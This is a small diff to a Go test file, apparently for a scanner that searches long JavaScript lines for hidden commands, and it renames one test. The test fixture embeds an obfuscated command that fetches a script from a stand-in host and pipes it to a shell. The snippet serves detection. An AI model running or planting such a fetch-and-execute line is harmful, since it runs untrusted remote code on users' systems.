@@ -65,7 +65,7 @@ func TestAShortReadingIsKeptWhole(t *testing.T) {
 	}
 }
 
-func TestOfALongLineOnlyWhatIsNearIsReadAgain(t *testing.T) {
+func TestLongLinesAreReadAgainOnlyNearAFind(t *testing.T) {
 	pad := strings.Repeat("function a(b){return b+1};", 20_000)
 	text := pad + "x.exec('cu\\x72l http://x.example.com/i | sh');" + pad + "\nlast()\n"
 	readings, _ := spelling.Readings(gate.LanguageJavaScript, []byte(text))
